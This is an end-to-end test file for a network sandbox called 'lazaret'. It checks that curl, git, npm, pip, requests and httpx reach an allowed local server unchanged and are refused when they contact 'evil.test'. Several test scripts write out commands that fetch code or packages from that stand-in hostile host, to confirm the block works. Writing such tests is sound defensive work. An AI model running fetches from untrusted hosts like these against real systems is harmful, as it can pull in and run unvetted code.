"""Clients: programs that know nothing of lazaret reach by its way out what is allowed, unchanged, and say
themselves what is refused. The image has none of them: they are this host's, with what they load. One
server on the loopback of a network namespace of this test's own is all that they may reach."""
import atexit
import base64
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import tarfile
import tempfile
import zipfile

from e2e import *
from live import *

import servers

BOX = "clients"  # the one that these tests share
PYTHON = "/usr/bin/python3"  # Debian's, as the image's
RIG = {}
PAGES = {}  # of the server, by path: type and content


def _serve(s):
    with s.makefile("rb") as f:
        path = f.readline().decode().split()[1].split("?")[0]
        while f.readline().strip():
            pass
    kind, content = PAGES.get(path, ("text/plain", None))
    s.sendall(b"HTTP/1.1 %s\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
              % (b"404 no" if content is None else b"200 OK", kind.encode(), len(content or b"")) + (content or b""))


def _which(name):
    """A program of the host; None where it has none, or a script in its place."""
    path = shutil.which(name)
    if not path:
        return None
    with open(path, "rb") as f:
        return path if f.read(4) == b"\x7fELF" else None


def _host_program(path, to):
    """A program with its libraries, but not those of the C library: the image's loader is for its own."""
    os.makedirs(f"{to}/lib", exist_ok=True)
    shutil.copy(path, to)
    rows = subprocess.run(["ldd", path], capture_output=True, check=True).stdout.decode().splitlines()
    for name, library in (row.split()[0::2][:2] for row in rows if "=>" in row):
        if not re.match(r"(lib(c|m|dl|rt|pthread)\.|ld-)", name):
            shutil.copy(library, f"{to}/lib/{name}")


def _host_modules(name):
    """What Debian's Python loads of its packages for this module: files and folders; none without it."""
    script = """
import importlib, os, sys
sys.modules["click"] = None  # of httpx only the module, which does without it
try:
    importlib.import_module(sys.argv[1])
except ImportError:
    sys.exit()
for file in {m.__file__ for name, m in sys.modules.items() if "." not in name and getattr(m, "__file__", None)}:
    if "/dist-packages/" in file:
        print(os.path.dirname(file) if os.path.basename(file) == "__init__.py" else file)
"""
    if not os.path.exists(PYTHON):
        return []
    return subprocess.run([PYTHON, "-I", "-c", script, name], capture_output=True, check=True).stdout.decode().split()


def _host_npm():
    """The folder of an npm that has all that it needs in it, as npm's releases have; None else."""
    top = os.path.dirname(os.path.dirname(os.path.realpath(shutil.which("npm") or "/")))
    try:
        with open(f"{top}/package.json", encoding="utf-8") as f:
            needs = json.load(f)["dependencies"]
    except FileNotFoundError:
        return None
    return top if _which("node") and all(os.path.isdir(f"{top}/node_modules/{name}") for name in needs) else None


def _host_tools(to):
    """All that this host has of them."""
    for program in filter(None, map(_which, ("git", "curl", "node"))):
        _host_program(program, to)
    if _which("git"):
        core = subprocess.run(["git", "--exec-path"], capture_output=True, check=True).stdout.decode().strip()
        _host_program(f"{core}/git-remote-https", to)
    if _host_npm():
        shutil.copytree(_host_npm(), f"{to}/npm", symlinks=True)
    os.mkdir(f"{to}/python")
    for path in {path for name in ("pip", "requests", "httpx") for path in _host_modules(name)}:
        (shutil.copytree if os.path.isdir(path) else shutil.copy)(path, f"{to}/python/{os.path.basename(path)}")


def _box():
    """The sandbox, up; RIG["at"] is the server."""
    if RIG:
        return
    if not servers.is_alone():
        raise Skip("needs root, for a network namespace of its own")
    certificates = servers.Certificates()
    atexit.register(certificates.remove)
    os.environ["LAZARET_DNS"] = servers.Names({"good.test": ["127.0.0.1"]}).at
    port = servers.tcp(_serve, context=certificates.server("good.test"))
    with tempfile.TemporaryDirectory(prefix="lz-e2e-") as folder:
        _host_tools(f"{folder}/in")
        shutil.copy(certificates.ca, f"{folder}/in/ca.pem")
        with open(f"{folder}/policy.json", "w", encoding="utf-8") as f:
            json.dump({"format": "lazaret-policy", "version": 1, "network_ranges": ["127.0.0.0/8"]}, f)
        with open(f"{folder}/agent.json", "w", encoding="utf-8") as f:
            json.dump({"format": "lazaret-manifest", "version": 1, "network": [f"https://good.test:{port}"]}, f)
        finished(up(BOX, "--manifest", f"{folder}/agent.json", "--policy", f"{folder}/policy.json", "--memory", "512M",
                    "--in", f"{folder}/in"))
    atexit.register(lambda: BOX in sandboxes() and lazaret("down", BOX))
    RIG["at"] = f"https://good.test:{port}"


def _try(script, *words, status=0):
    """What a shell in it says, where $1 is the server: the result of its exec."""
    script = "export LD_LIBRARY_PATH=/in/lib PYTHONPATH=/in/python PATH=/in:$PATH; " + script
    r = execute(BOX, "--json", "--", "sh", "-c", script, "sh", RIG["at"], *words, timeout=480)
    d = json.loads(r.stdout)
    equal(r.returncode, status, d["stdout"] + d["stderr"])
    return d


def _denied(d, count=1):
    """It tried evil.test so often, and was told."""
    rows = [(e["verdict"], e["why"], e["count"]) for e in d["egress"] if e["destination"] == "evil.test:443"]
    equal(rows, [("refused", "rule", count)], d)
    check("403" in d["stdout"] + d["stderr"], d)


def curl_in_the_guest_works_unchanged():
    if not _which("curl"):
        raise Skip("needs curl")
    _box()
    PAGES["/a"] = ("text/plain", b"by curl")
    d = _try("curl -sS --cacert /in/ca.pem $1/a; curl -sS https://evil.test/", status=56)
    equal(d["stdout"], "by curl")
    _denied(d)


def _repository(folder):
    """repo.git, with a file in it; the file's SHA-256."""
    content = os.urandom(1 << 20)
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null"}

    def git(*words):
        subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "init.defaultBranch=main", *words],
                       cwd=folder, check=True, env=env)

    git("init", "-q", "tree")
    with open(f"{folder}/tree/file", "wb") as f:
        f.write(content)
    git("-C", "tree", "add", "file")
    git("-C", "tree", "commit", "-qm", "one")
    git("clone", "-q", "--bare", "tree", "repo.git")
    git("-C", "repo.git", "update-server-info")  # which makes it a folder that any server can serve
    for at, _, files in os.walk(f"{folder}/repo.git"):
        for file in files:
            with open(f"{at}/{file}", "rb") as f:
                PAGES[f"{at[len(folder):]}/{file}"] = ("application/octet-stream", f.read())
    return hashlib.sha256(content).hexdigest()


def git_clones_through_it_unchanged(folder):
    if not _which("git"):
        raise Skip("needs git")
    want = _repository(folder)
    _box()
    script = """cd /work; export GIT_EXEC_PATH=/in GIT_SSL_CAINFO=/in/ca.pem
git -c init.defaultBranch=main clone -q "$1/repo.git" cloned && sha256sum cloned/file
git clone -q https://evil.test/repo.git refused"""
    d = _try(script, status=128)
    equal(d["stdout"].split()[0], want, d["stderr"])
    _denied(d)


def _npm_package(name, integrity=None):
    """A package in the registry, of one file: what its integrity is."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as t:
        for path, text in (("package.json", json.dumps({"name": name, "version": "1.0.0", "main": "index.js"})),
                           ("index.js", f"module.exports = 'this is {name}'")):
            info = tarfile.TarInfo(f"package/{path}")
            info.size, info.mode = len(text), 0o644
            t.addfile(info, io.BytesIO(text.encode()))
    own = "sha512-" + base64.b64encode(hashlib.sha512(raw.getvalue()).digest()).decode()
    tarball = f"/{name}/-/{name}-1.0.0.tgz"
    PAGES[tarball] = ("application/octet-stream", raw.getvalue())
    PAGES[f"/{name}"] = ("application/json", json.dumps({
        "name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
            "name": name, "version": "1.0.0",
            "dist": {"tarball": RIG["at"] + tarball, "integrity": integrity or own}}}}).encode())
    return own


def npm_installs_through_it_unchanged():
    if not _host_npm():
        raise Skip("needs node, and npm in one folder")
    _box()
    own = _npm_package("whole")
    _npm_package("changed", "sha512-" + base64.b64encode(hashlib.sha512(b"as it was").digest()).decode())
    d = _try("""mkdir /work/npm; cd /work/npm; npm() { node /in/npm/bin/npm-cli.js "$@"; }
printf 'registry=%s/\\ncafile=/in/ca.pem\\nfetch-retries=0\\naudit=false\\nupdate-notifier=false\\n' "$1" > .npmrc
echo '{"dependencies": {"whole": "1"}, "optionalDependencies": {"changed": "1"}}' > package.json
npm install >&2 && node -p 'require("whole")' && cat package-lock.json
ls node_modules/changed
npm install --registry https://evil.test/ other""", status=1)
    said, _, lock = d["stdout"].partition("\n")
    equal(said, "this is whole", d["stderr"])
    check(own in lock, lock)
    check("changed-1.0.0.tgz" in d["stderr"] and "corrupted" in d["stderr"], d["stderr"])
    check("'node_modules/changed': No such file" in d["stderr"], d["stderr"])
    check("no rule allows it" in d["stderr"], d["stderr"])
    _denied(d)


def _wheel():
    """A package of the index, of one module."""
    raw, files = io.BytesIO(), {
        "whole.py": "said = 'this is whole'\n",
        "whole-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: whole\nVersion: 1\n",
        "whole-1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    files["whole-1.dist-info/RECORD"] = "".join(f"{name},,\n" for name in [*files, "whole-1.dist-info/RECORD"])
    with zipfile.ZipFile(raw, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)
    file = "whole-1-py3-none-any.whl"
    PAGES[f"/{file}"] = ("application/octet-stream", raw.getvalue())
    PAGES["/simple/whole/"] = ("text/html", f'<!DOCTYPE html><a href="/{file}#sha256='
                               f'{hashlib.sha256(raw.getvalue()).hexdigest()}">{file}</a>'.encode())


def pip_installs_through_it_unchanged():
    if not _host_modules("pip"):
        raise Skip("needs python3-pip")
    _box()
    _wheel()
    d = _try("""cd /work; python3 -m pip --cert /in/ca.pem --timeout 120 --retries 1 install --target pip \\
    --index-url "$1/simple" --extra-index-url https://evil.test/simple whole >&2
PYTHONPATH=pip python3 -c 'import whole; print(whole.said)'""")
    equal(d["stdout"], "this is whole\n", d["stderr"])
    check("no rule allows it" in d["stderr"], d["stderr"])
    _denied(d, 2)


def requests_and_httpx_work_in_the_guest_unchanged():
    there = list(filter(_host_modules, ("requests", "httpx")))
    if not there:
        raise Skip("needs python3-requests or python3-httpx")
    _box()
    PAGES["/b"] = ("text/plain", b"by Python")
    d = _try("""python3 -c '
import importlib, sys
for name in sys.argv[2:]:
    m = importlib.import_module(name)
    print(m.get(sys.argv[1] + "/b", verify="/in/ca.pem", timeout=120).text)
    try:
        print(m.get("https://evil.test/", verify="/in/ca.pem", timeout=120))
    except Exception as e:
        print(e)
' "$@" """, *there)
    equal(d["stdout"].splitlines()[0::2], ["by Python"] * len(there), d["stderr"])
    for line in d["stdout"].splitlines()[1::2]:
        check("403" in line and "no rule allows it" in line, line)
    _denied(d, len(there))


servers.alone()
main()
